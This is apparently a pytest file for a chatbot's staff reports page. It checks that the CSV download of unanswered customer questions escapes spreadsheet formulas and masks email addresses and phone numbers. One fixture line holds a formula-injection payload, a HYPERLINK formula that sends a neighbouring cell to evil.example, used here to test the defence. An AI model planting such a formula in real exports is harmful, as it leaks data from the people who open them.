"""The reports page's downloads as a spreadsheet opens them: customer text that would run as a formula stays text,
and the content gaps (questions the bot could not answer, in the customers' words) carry no personal data."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from serving.app import create_app
from tests.conftest import stand_in_settings_at
from tests.utils.fake_vllm import FakeVLLM
from tests.utils.staff import make_staff
from tests.utils.store import bot, customer, make_conversation

# A formula that would send the next cell to another site when the download is opened, and one that starts with +.
FORMULA = '=HYPERLINK("https://evil.example/?c="&B2,"Your refund")'
PLUS = "+1 for gift wrapping, do you have it?"
PERSONAL = "Do you sell gift cards? Write to jo.bloggs@example.com or call 0161 496 0753"


@pytest.fixture
def reports_app(stand_in_vllm: FakeVLLM, base_model_dir: Path, tmp_path: Path) -> Iterator[TestClient]:
    with TestClient(create_app(stand_in_settings_at(tmp_path, stand_in_vllm, base_model_dir))) as http:
        yield http


def test_the_content_gaps_download_escapes_formulas_and_masks_personal_data(reports_app: TestClient) -> None:
    engine = reports_app.app.state.services.engine  # type: ignore[attr-defined]
    reports_app.cookies.update(make_staff(engine, "rita@example.com", "Rita Reports").cookies)
    with Session(engine) as session:
        for text in (FORMULA, PLUS, PERSONAL):
            make_conversation(session, customer(text), bot("Could you rephrase that?", decision="rephrase"))

    response = reports_app.get("/console/reports.csv", params={"table": "gaps"})
    assert response.status_code == 200, response.text
    header, *rows = csv.reader(io.StringIO(response.text))
    assert header[0] == "question"
    assert sorted(row[0] for row in rows) == sorted(
        ["'" + FORMULA, "'" + PLUS, "Do you sell gift cards? Write to [email] or call [phone]"]
    )
    assert "jo.bloggs" not in response.text and "496 0753" not in response.text

    # The page's JSON twin shows the same masked questions (the formula escape is the spreadsheet's concern only).
    report = reports_app.get("/api/staff/reports").json()
    questions = [row[0] for row in report["tables"]["gaps"][1:]]
    assert FORMULA in questions and "jo.bloggs" not in str(questions)
